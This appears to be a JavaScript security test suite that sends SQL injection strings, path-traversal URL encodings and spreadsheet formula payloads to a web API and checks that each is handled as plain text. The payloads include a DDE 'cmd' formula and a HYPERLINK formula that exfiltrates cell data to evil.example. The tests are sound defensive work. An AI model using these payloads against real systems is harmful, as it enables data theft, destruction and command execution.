// Text that means something to SQL, to a file system or to a spreadsheet, in every place where a
// client can put text. It must stay text.
import { spawn } from "node:child_process";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { check, check_equal, wait_until } from "../journey/chapters.mjs";
import { exchange } from "./raw_http.mjs";
import { short_job } from "./searches.mjs";
import { need_tool, Skip } from "./suite.mjs";

const trace_limit_ms = 30_000;
const page_size = 1000;
const tag_chars_max = 50; // the server's

const sql_texts = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE searches; --",
  '"; DROP TABLE trials; --',
  "' UNION SELECT sql FROM sqlite_master --",
  "1; DELETE FROM events",
  "') ; UPDATE searches SET name = 'owned'; --",
  "\\'; DROP TABLE searches; --",
  "%' ESCAPE '%",
  "_%",
  "[a-z]*",
  "name; DROP TABLE searches",
  "created_at, (SELECT load_extension('a'))",
  "-created_at NULLS FIRST",
  "' || randomblob(1000000000) || '",
  "x' AND 1=CAST((SELECT count(*) FROM searches) AS TEXT) --",
  "/* */",
  "\u02bc OR 1=1",
  "\ud83d\ude00'",
];

/** Requests with `text` in every place that reaches a query. */
function injected_requests(id, text) {
  const value = encodeURIComponent(text);
  const parameters = ["after", "sort", "status", "problem", "tag", "name", "limit"];
  parameters.push("created_after", "created_before");
  const requests = parameters.map((name) => ["GET", `/api/v1/searches?${name}=${value}`]);
  requests.push(
    ["GET", `/api/v1/searches?${value}=1`],
    ["GET", `/api/v1/searches/${value}`],
    ["DELETE", `/api/v1/searches/${value}`],
    ["PATCH", `/api/v1/searches/${value}`, '{"name": "owned"}'],
    ["POST", `/api/v1/searches/${value}/cancel`],
    ["POST", `/api/v1/searches/${value}/resume`],
    ["GET", `/api/v1/searches/${id}${value}`],
    ["GET", `/api/v1/searches/${value}/curves`],
    ["GET", `/api/v1/searches/${id}/trials?after=${value}`],
    ["GET", `/api/v1/searches/${id}/trials/${value}`],
    ["GET", `/api/v1/searches/${id}/trials/${value}/trace`],
    ["POST", `/api/v1/searches/${id}/trials/${value}/rerun`],
    ["GET", `/api/v1/searches/${id}/export?format=${value}`],
    ["GET", `/api/v1/compare?ids=${id},${value}`],
    ["GET", `/api/v1/analyses?after=${value}`],
    ["GET", `/api/v1/analyses/${value}`],
    ["DELETE", `/api/v1/analyses/${value}`],
    ["GET", `/api/v1/fmus?after=${value}`],
    ["GET", `/api/v1/fmus/${value}`],
    ["DELETE", `/api/v1/fmus/${value}`],
    ["GET", `/api/v1/problems/${value}`],
  );
  return requests;
}

const schema = (server) => server.sql("SELECT type, name, sql FROM sqlite_master ORDER BY name");

export async function sql(server) {
  const { id } = await server.submit(short_job("honest", true));
  await server.wait_for(id, ["succeeded"]);
  const before = { schema: schema(server), search: await server.get(`/searches/${id}`) };
  const names = ["honest"];
  let tries = 0;
  for (const text of sql_texts) {
    for (const [method, path, body] of injected_requests(id, text)) {
      const answer = await server.request(method, path, { body });
      const what = `${method} ${path}: ${answer.status} ${answer.body.slice(0, 200)}`;
      check(answer.status < 500, what);
      check(!/SQL logic|: syntax error|no such (table|column)/i.test(answer.body), what);
      if (path.startsWith("/api/v1/searches?name=")) {
        check_equal(JSON.parse(answer.body).searches, [], `found by ${text}`);
      }
      check(answer.status !== 200 || method === "GET", what);
      tries += 1;
    }
    // Stored as it is, found by itself, and by nothing else; the same key is the same search.
    const key = text.replaceAll(" ", "/**/"); // keys have no spaces
    const headers = /^[\x21-\x7e]+$/.test(key) ? { "Idempotency-Key": key } : {};
    const job = { ...short_job(text), note: text, priority: -100 };
    if (!text.includes(",") && text.length <= tag_chars_max) job.tags = [text];
    const stored = await server.submit(job, headers);
    if (headers["Idempotency-Key"]) {
      check_equal((await server.submit(job, headers)).id, stored.id, "the search of the same key");
    }
    const cancelled = await server.request("POST", `/api/v1/searches/${stored.id}/cancel`);
    check_equal(cancelled.status, 200, "cancel");
    names.push(text);
    const found = await server.get(`/searches?name=${encodeURIComponent(text)}`);
    check_equal(
      found.searches.map((one) => one.name),
      [text],
      "found by its name",
    );
    tries += 1;
    const changed = await server.request("PATCH", `/api/v1/searches/${stored.id}`, {
      body: JSON.stringify({ note: text }),
    });
    check_equal(changed.status, 200, "PATCH");
  }
  const listed = await server.get(`/searches?limit=${page_size}`);
  check_equal(listed.searches.map((one) => one.name).reverse(), names, "the names");
  check_equal(schema(server), before.schema, "the schema");
  check_equal(await server.get(`/searches/${id}`), before.search, "the honest search");
  return { tries };
}

const secret = "top-secret-of-the-file-system";

function traversal_targets(file) {
  const up = "../".repeat(12);
  const encode_all = (text) =>
    [...Buffer.from(text)].map((c) => `%${c.toString(16).padStart(2, "0")}`).join("");
  const path = file.slice(1);
  const encoded = path.replaceAll("/", "%2f");
  const ways = [
    `/${up}${path}`,
    `/./././${up}${path}`,
    `/assets/${up}${path}`,
    `/${up.replaceAll("/", "%2f")}${encoded}`,
    `/${up.replaceAll(".", "%2e")}${path}`,
    `/${up.replaceAll("../", "%2e%2e%2f")}${encoded}`,
    `/${up.replaceAll("../", "%252e%252e%252f")}${encoded.replaceAll("%", "%25")}`,
    `/${up.replaceAll("../", "..%255c")}${path}`,
    `/${up.replaceAll("/", "\\")}${path.replaceAll("/", "\\")}`,
    `/${up.replaceAll("/", "%5c")}${path.replaceAll("/", "%5c")}`,
    `/${up.replaceAll("../", "..%c0%af")}${path}`,
    `/${up.replaceAll("../", "%c0%ae%c0%ae/")}${path}`,
    `/${up.replaceAll("../", "....//")}${path}`,
    `/${up.replaceAll("../", "..;/")}${path}`,
    `/${up}${path}%00.html`,
    `/${up}${path}\0.html`,
    `//${path}`,
    `/${encode_all(file)}`,
    `/${encode_all(`${up}${path}`)}`,
    `/file://${file}`,
    `file://${file}`,
    file,
    `/%00${file}`,
    `/${"a/".repeat(60)}${up}${path}`,
  ];
  const inside = encode_all(`${up}${path}`);
  return [
    ...ways,
    `/api/v1/fmus/${inside}`,
    `/api/v1/fmus/${encode_all(file)}`,
    `/api/v1/fmus/..%2f..%2ffaults.db`,
    `/api/v1/problems/${inside}`,
    `/api/v1/searches/${inside}/export?format=json`,
    `/api/v1/searches/a/export?format=${inside}`,
    `/api/v1/analyses/${inside}`,
    `/api/v1/openapi.json/${up}${path}`,
    `/?view=${inside}`,
    `/?${inside}`,
  ];
}

/** Jobs that would like the server to read a file. */
function traversal_jobs(file) {
  const own = (fmu) => ({ problem: { subsystems: [{ name: "a", fmu }] } });
  const record = { name: "a", kind: "recorded", file };
  return [
    own(file),
    own(`../../../../../../../..${file}`),
    own(`file://${file}`),
    { problem: "linear_oscillator", tests: [record] },
    { problem: file },
    { problem: `../..${file}` },
    { problem: "linear_oscillator", include: file },
  ];
}

/** strace on the running server: what it asks of the file system is written to a file. */
class Trace {
  constructor(server, directory) {
    this.file = join(directory, "trace.txt");
    const options = ["-f", "-q", "-s", "400", "-e", "trace=%file", "-o", this.file];
    this.process = spawn("strace", [...options, "-p", String(server.pid)], { stdio: "ignore" });
  }

  lines() {
    if (!existsSync(this.file)) return [];
    return readFileSync(this.file, "utf8").split("\n").filter(Boolean);
  }

  async end() {
    const gone = new Promise((resolve) => this.process.once("exit", resolve));
    this.process.kill("SIGINT");
    await gone;
  }
}

export async function traversal(server, { directory }) {
  need_tool("strace", "-V");
  const file = join(directory, "secret.txt");
  writeFileSync(file, secret);
  const upload = (name) =>
    server.request("POST", `/api/v1/fmus?name=${encodeURIComponent(name)}`, {
      body: "no archive",
      headers: { "Content-Type": "application/octet-stream" },
    });
  const trace = new Trace(server, directory);
  try {
    // An upload does open a file: the proof that openings are seen.
    await wait_until("strace sees the server", trace_limit_ms, async () => {
      if (trace.process.exitCode !== null) throw new Skip("strace may not attach here");
      check_equal((await upload("a.fmu")).status, 422, "an upload that is no archive");
      return trace.lines().some((line) => line.includes(`${server.database}-fmus`));
    });
    let tries = 0;
    for (const target of traversal_targets(file)) {
      for (const method of ["GET", "DELETE"]) {
        const request = `${method} ${target} HTTP/1.1\r\nHost: ${server.host}\r\n\r\n`;
        const { responses } = await exchange(server, Buffer.from(request, "latin1"));
        check_equal(responses.length, 1, `answers to ${method} ${target}`);
        const [{ status, body }] = responses;
        check(!body.includes(secret), `${target} shows the file`);
        const page = method === "GET" && target.startsWith("/?");
        check(page ? status === 200 : status >= 400 && status < 500, `${target}: ${status}`);
        tries += 1;
      }
    }
    for (const job of traversal_jobs(file)) {
      const answer = await server.request("POST", "/api/v1/searches", {
        body: JSON.stringify(job),
      });
      check_equal(answer.status, 422, JSON.stringify(job));
      check(!answer.body.includes(secret), "a job shows the file");
      tries += 1;
    }
    for (const name of [file, `../../..${file}`, "../faults.db", "..\\..\\a", "a/../../b"]) {
      const { status } = await upload(name);
      check(status >= 400 && status < 500, `an upload called ${name}: ${status}`);
      tries += 1;
    }
    check_equal(await server.get("/searches").then((list) => list.searches), [], "searches");
    // Whatever the server asked of the file system names its own files by their own paths: a
    // descriptor, the archive in an upload's directory; memory allocation reads a setting.
    const own = new Set(["", "archive.fmu", "/proc/sys/vm/overcommit_memory"]);
    const foreign = trace.lines().filter((line) => {
      const path = line.match(/"((?:[^"\\]|\\.)*)"/)?.[1];
      return path !== undefined && !own.has(path) && !path.startsWith(server.database);
    });
    check_equal(foreign, [], "what else was asked of the file system");
    return { tries, remark: `${trace.lines().length} calls, all of its own files` };
  } finally {
    await trace.end();
  }
}

/** Cells of a CSV text, quotes taken off. */
function cells_of(text) {
  const cell = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  return [...text.matchAll(cell)].map((found) =>
    found[1].startsWith('"') ? found[1].slice(1, -1).replaceAll('""', '"') : found[1],
  );
}

const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1,2)",
  '=HYPERLINK("http://evil.example?"&A1,"here")',
  '",=1+1,"',
  "=1;\u2028=2",
];

export async function csv(server) {
  const tests = formulas.map((name) => ({ name, kind: "step", duration_s: 0.2 }));
  const jobs = formulas
    .slice(0, 2)
    .map((name) => ({ ...short_job(name, true), tests, note: name }));
  const ids = [];
  for (const job of jobs) ids.push((await server.submit({ ...job, tags: ["=1"] })).id);
  for (const id of ids) await server.wait_for(id, ["succeeded"]);
  const paths = ids.flatMap((id) => [
    `/searches/${id}/curves`,
    `/searches/${id}/trials?limit=${page_size}`,
    `/searches/${id}/export?format=csv`,
  ]);
  paths.push(`/compare?ids=${ids.join()}`, `/searches/${ids[0]}/trials/0/trace`);
  let tries = 0;
  for (const path of paths) {
    const answer = await server.request("GET", `/api/v1${path}`, {
      headers: { Accept: "text/csv" },
    });
    check_equal(answer.status, 200, path);
    for (const cell of cells_of(answer.body)) {
      const number = cell !== "" && Number.isFinite(Number(cell));
      check(number || !/^[=+\-@\t\r]/.test(cell), `${path} has the cell ${cell}`);
      tries += 1;
    }
    if (path.includes("format=csv")) {
      const cells = new Set(cells_of(answer.body));
      for (const name of formulas) {
        check(cells.has(name) || cells.has(`'${name}`), `${path} does not have ${name}`);
      }
    }
  }
  return { tries };
}
